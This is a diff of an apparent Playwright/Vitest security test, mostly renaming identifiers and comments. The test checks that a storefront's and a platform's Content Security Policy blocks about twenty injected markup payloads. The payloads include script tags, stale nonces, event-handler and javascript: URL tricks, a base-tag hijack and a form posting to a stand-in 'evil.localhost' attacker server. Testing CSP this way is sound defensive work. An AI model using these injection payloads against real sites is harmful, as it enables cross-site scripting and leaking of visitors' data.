@@ -1,4 +1,4 @@
-// BR3: should a stranger's markup ever come into a page, whichever it is, nothing of it runs, and nothing goes elsewhere.
+// BR3: markup that an attacker injects into a page does not run, and sends no request to another host.
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { afterAll, beforeAll, expect, inject, test } from 'vitest'
@@ -8,44 +8,44 @@ import { nonceOf } from '../../shop/policy.ts'
 
 const runs = (name: string) => `(top.ran ??= []).push('${name}')`
 
-/** Where a stranger waits for what comes. */
-const stranger = createServer((request, response) => {
-  came.push(request.url ?? '')
+/** The server of the attacker. */
+const attacker = createServer((request, response) => {
+  received.push(request.url ?? '')
   response.end()
 })
-const came: string[] = []
-beforeAll(() => new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve)))
-afterAll(() => stranger.close())
+const received: string[] = []
+beforeAll(() => new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve)))
+afterAll(() => attacker.close())
 
-/** Ways in which markup runs where no policy stands in its way; `old` is the nonce of a page of before. */
-const injected = (elsewhere: string, old: string) =>
+/** Markup that would run without a content security policy; `oldNonce` is the nonce of an earlier response. */
+const injected = (attackerUrl: string, oldNonce: string) =>
   [
     `<script>${runs('a script')}</script>`,
     `<script nonce="">${runs('an empty nonce')}</script>`,
-    `<script nonce="${old}">${runs('the nonce of before')}</script>`,
+    `<script nonce="${oldNonce}">${runs('an old nonce')}</script>`,
     `<script src="data:text/javascript,${encodeURIComponent(runs('a data script'))}"></script>`,
-    `<script src="${elsewhere}/x.js"></script>`,
+    `<script src="${attackerUrl}/x.js"></script>`,
     `<script type="module">${runs('a module')}</script>`,
     `<script type="importmap">{"imports":{"react":"data:text/javascript,1"}}</script>`,
     `<img src="data:," onerror="${runs('an image')}">`,
-    `<img src="${elsewhere}/x.png">`,
+    `<img src="${attackerUrl}/x.png">`,
     `<svg onload="${runs('a drawing')}"><script>${runs('a script of a drawing')}</script></svg>`,
     `<details open ontoggle="${runs('details')}"><summary>x</summary></details>`,
     `<iframe srcdoc="<script>${runs('a frame')}</script>"></iframe>`,
     `<iframe src="javascript:${runs('a frame of script')}"></iframe>`,
     `<object data="data:text/html,<script>${runs('an object')}</script>"></object>`,
-    `<embed src="${elsewhere}/x.swf">`,
-    `<style>body { background: url(${elsewhere}/x.css) }</style>`,
-    `<link rel="stylesheet" href="${elsewhere}/x.css">`,
-    `<base href="${elsewhere}/">`,
+    `<embed src="${attackerUrl}/x.swf">`,
+    `<style>body { background: url(${attackerUrl}/x.css) }</style>`,
+    `<link rel="stylesheet" href="${attackerUrl}/x.css">`,
+    `<base href="${attackerUrl}/">`,
     `<a id="injected-link" href="javascript:${runs('a link')}">x</a>`,
-    `<form id="injected-form" action="${elsewhere}/form" method="post"><input name="a" value="b"></form>`,
+    `<form id="injected-form" action="${attackerUrl}/form" method="post"><input name="a" value="b"></form>`,
   ].join('\n')
 
 const pages = {
-  shop: [
+  storefront: [
     '/',
-    '/goods',
+    '/products',
     '/collections/kitchen',
     '/products/reading-mug',
     '/search?q=mug',
@@ -56,15 +56,15 @@ const pages = {
 }
 
 const sites = [
-  ['the shop', 'shop', 'storefrontUrl'],
+  ['the storefront', 'storefront', 'storefrontUrl'],
   ['the platform', 'platform', 'platformUrl'],
 ] as const
 
-test.each(sites)('BR3: nothing that is put into a page of %s runs', async (name, which, url) => {
+test.each(sites)('no markup that is injected into a page of %s runs (BR3)', async (name, which, url) => {
   const origin = inject(url)
-  // The console tells of each thing that is held back; that it does is what is wanted.
+  // The console logs everything that the policy blocks, as it should.
   const { page, context, leave } = await openVisitorPage({ baseURL: origin, expects: [/./] })
-  const elsewhere = `http://evil.localhost:${(stranger.address() as AddressInfo).port}`
+  const attackerUrl = `http://evil.localhost:${(attacker.address() as AddressInfo).port}`
   if (which === 'platform') {
     await page.goto('/admin/sign-in')
     await page.getByLabel('API key').fill(inject('apiKey'))
@@ -73,53 +73,53 @@ test.each(sites)('BR3: nothing that is put into a page of %s runs', async (name,
   }
   const ran: string[] = []
   let control = 0
-  let heldBack = 0
+  let blocked = 0
   for (const path of pages[which]) {
-    const before = await context.request.get(path, { failOnStatusCode: false })
-    const old = nonceOf(before.headers()['content-security-policy'] ?? '') ?? ''
+    const earlier = await context.request.get(path, { failOnStatusCode: false })
+    const oldNonce = nonceOf(earlier.headers()['content-security-policy'] ?? '') ?? ''
     await page.route(origin + path, async (route) => {
       const response = await route.fetch()
       const nonce = nonceOf(response.headers()['content-security-policy'] ?? '')
       const watch = `<script nonce="${nonce}">
-        globalThis.held = 0
-        addEventListener('securitypolicyviolation', () => { held += 1 })
+        globalThis.blocked = 0
+        addEventListener('securitypolicyviolation', () => { blocked += 1 })
         globalThis.control = true
       </script>`
       const body = (await response.text()).replace(
         /<body[^>]*>/,
-        (tag) => tag + watch + injected(elsewhere, old),
+        (tag) => tag + watch + injected(attackerUrl, oldNonce),
       )
       await route.fulfill({ response, body })
     })
     await page.goto(path)
-    const told = await page.evaluate(async () => {
+    const result = await page.evaluate(async () => {
       document.getElementById('injected-link')?.click()
       document.querySelector<HTMLFormElement>('#injected-form')?.requestSubmit()
-      // Whatever was set going has had its turn.
+      // Wait until everything that could run has run.
       await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))
-      const { ran = [], control, held } = globalThis as unknown as Told
-      return { ran, control, held, base: document.baseURI, at: location.href }
+      const { ran = [], control, blocked } = globalThis as unknown as PageResult
+      return { ran, control, blocked, base: document.baseURI, url: location.href }
     })
-    ran.push(...told.ran.map((what) => `${path}: ${what}`))
-    expect([told.base, told.at]).toEqual([origin + path, origin + path])
-    if (told.control) control += 1
-    heldBack += told.held
+    ran.push(...result.ran.map((what) => `${path}: ${what}`))
+    expect([result.base, result.url]).toEqual([origin + path, origin + path])
+    if (result.control) control += 1
+    blocked += result.blocked
     await page.unroute(origin + path)
   }
   say(
-    `BR3: ${name}: 20 pieces of a stranger's markup in each of ${pages[which].length} pages, ${ran.length} ran, ${came.length} went elsewhere, ${heldBack} held back`,
+    `BR3: ${name}: 20 pieces of injected markup in each of ${pages[which].length} pages, ${ran.length} ran, ${received.length} reached the attacker, ${blocked} blocked`,
   )
-  expect([ran, came]).toEqual([[], []])
-  // What the page itself vouches for did run: the markup was there.
+  expect([ran, received]).toEqual([[], []])
+  // The control script, with the right nonce, did run: the markup was in the page.
   expect(control).toBe(pages[which].length)
-  expect(heldBack).toBeGreaterThan(10 * pages[which].length)
-  await page.goto(`${elsewhere}/by-hand`)
-  expect(came.splice(0)).toContain('/by-hand')
+  expect(blocked).toBeGreaterThan(10 * pages[which].length)
+  await page.goto(`${attackerUrl}/by-hand`)
+  expect(received.splice(0)).toContain('/by-hand')
   await leave()
 })
 
-interface Told {
+interface PageResult {
   ran?: string[]
   control?: boolean
-  held: number
+  blocked: number
 }
